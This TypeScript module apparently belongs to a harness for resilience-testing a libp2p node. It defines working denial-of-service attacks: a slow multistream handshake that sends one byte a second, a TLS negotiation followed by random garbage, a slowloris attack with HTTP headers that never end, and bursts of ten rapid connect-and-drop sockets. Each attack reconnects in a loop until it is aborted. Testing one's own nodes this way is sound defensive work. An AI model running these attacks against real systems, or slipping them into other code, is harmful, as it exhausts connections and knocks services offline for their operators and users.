import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Attacker, Target } from './attack';

/** Connects without libp2p, and again when it is cut off. */
export function raw(
    act: (socket: Socket, attacker: Attacker) => Promise<void>,
    portOf: (target: Target) => number = ({ port }) => port,
): Attack {
    return async (attacker) => {
        const { target, localAddress, signal, count, opened } = attacker;
        while (!signal.aborted) {
            const socket = connect({ host: target.host, port: portOf(target), localAddress });
            socket.on('error', () => undefined);
            const over = once(socket, 'close');
            await Promise.race([once(socket, 'connect').catch(() => undefined), over]);
            const closed = opened();
            void over.then(closed);
            count('connected');
            await Promise.race([act(socket, attacker).catch(() => undefined), over]);
            await Promise.race([over, sleep(30_000)]);
            count('cut off');
            socket.destroy();
            await sleep(500);
        }
    };
}

const httpPort = ({ url }: Target) => Number(new URL(url).port);

/** The greeting of libp2p, one byte a second: a handshake that never ends. */
export const loris = raw(async (socket) => {
    for (const byte of '\x13/multistream/1.0.0\n') {
        socket.write(byte);
        await sleep(1_000);
    }
});

/** Chooses TLS and then sends what is none. */
export const garbage = raw(async (socket) => {
    socket.resume();
    socket.write('\x13/multistream/1.0.0\n\x0b/tls/1.0.0\n');
    for (let at = 0; at < 16; at++) {
        socket.write(Buffer.alloc(16 * 1024, Math.floor(Math.random() * 256)));
        await sleep(20);
    }
});

/** Headers of HTTP over TCP that never end. */
export const slowHeaders = raw(async (socket) => {
    socket.write('GET /health HTTP/1.1\r\nHost: x\r\n');
    for (let at = 0; at < 60 && !socket.destroyed; at++) {
        socket.write(`X-${at}: y\r\n`);
        await sleep(1_000);
    }
}, httpPort);

/** Comes and goes, ten times at once. */
export const burst: Attack = async ({ target, localAddress, signal, count, opened }) => {
    while (!signal.aborted) {
        for (let at = 0; at < 10; at++) {
            const socket = connect({ host: target.host, port: target.port, localAddress });
            socket.on('error', () => undefined);
            const closed = opened();
            socket.once('close', closed);
            socket.once('connect', () => setTimeout(() => socket.destroy(), 50));
            count('connected');
        }
        await sleep(1_000);
    }
};
